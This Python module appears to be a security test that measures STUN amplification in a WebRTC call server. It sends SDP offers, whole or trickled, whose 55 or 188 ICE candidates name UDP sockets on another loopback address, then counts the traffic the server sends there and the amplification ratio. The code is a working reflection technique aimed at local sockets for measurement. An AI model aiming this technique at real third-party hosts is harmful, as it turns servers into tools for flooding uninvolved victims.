"""An offer whose candidates are somebody else's: how much is sent to them?

The somebody is a set of UDP sockets at another loopback address, which never answer.
"""

import asyncio
import socket
from collections.abc import Iterator
from contextlib import ExitStack

from attacks.target import OFFER, SDP, Report, Requests, Target, requests

ELSEWHERE = "127.0.0.77"
PORTS = 188
FRAGMENT = {"Content-Type": "application/trickle-ice-sdpfrag", "If-Match": "*"}


class Elsewhere:
    """UDP sockets at ``ELSEWHERE`` that count what comes."""

    def __init__(self, stack: ExitStack) -> None:
        self._sockets = [
            stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
            for _ in range(PORTS)
        ]
        for one in self._sockets:
            one.bind((ELSEWHERE, 0))
            one.setblocking(False)
        self.ports = [one.getsockname()[1] for one in self._sockets]
        self.packets, self.bytes, self.reached = 0, 0, set[int]()

    def count(self) -> None:
        """Take in all that has come."""
        for number, one in enumerate(self._sockets):
            while True:
                try:
                    size = len(one.recv(2_048))
                except BlockingIOError:
                    break
                self.packets, self.bytes = self.packets + 1, self.bytes + size
                self.reached.add(number)

    def report(self, sent: int) -> Report:
        """``sent``: bytes that this side has sent to bring it about."""
        return {
            "packets": self.packets,
            "bytes": self.bytes,
            "sent_bytes": sent,
            "times": round(self.bytes / max(1, sent), 2),
            "ports_reached": len(self.reached),
        }


def _candidates(ports: list[int]) -> Iterator[str]:
    for n, port in enumerate(ports, 1):
        yield f"a=candidate:{n} 1 udp {2_130_706_431 - n} {ELSEWHERE} {port} typ host\r\n"


async def _watch(elsewhere: Elsewhere, seconds: float) -> None:
    loop = asyncio.get_running_loop()
    until = loop.time() + seconds
    while loop.time() < until:
        await asyncio.sleep(0.1)
        elsewhere.count()


async def _measured(target: Target, http: Requests, ports: int, trickled: bool) -> Report:
    with ExitStack() as stack:
        elsewhere = Elsewhere(stack)
        lines = "".join(_candidates(elsewhere.ports[:ports]))
        offer = OFFER if trickled else OFFER + lines
        sent = len(offer)
        answer = await http.send("POST", "/calls", data=offer, headers=SDP)
        place = answer[1].get("Location") if answer is not None else None
        if trickled and place:
            fragment = f"m=audio 9 UDP/TLS/RTP/SAVPF 111\r\na=mid:0\r\n{lines}"
            sent += len(fragment)
            await http.send("PATCH", place, data=fragment, headers=FRAGMENT)
        await _watch(elsewhere, target.seconds)
        if place:
            await http.send("DELETE", place)
        return elsewhere.report(sent) | http.report()


async def stun_elsewhere(target: Target) -> Report:
    """One 15 kB offer with 188 candidates of another host, and what that host gets."""
    async with requests(target) as http:
        return await _measured(target, http, PORTS, trickled=False)


async def stun_few(target: Target) -> Report:
    """As many candidates as a caller may have."""
    async with requests(target) as http:
        return await _measured(target, http, 55, trickled=False)


async def stun_trickled(target: Target) -> Report:
    """The same, given one call later in a fragment."""
    async with requests(target) as http:
        return await _measured(target, http, 55, trickled=True)
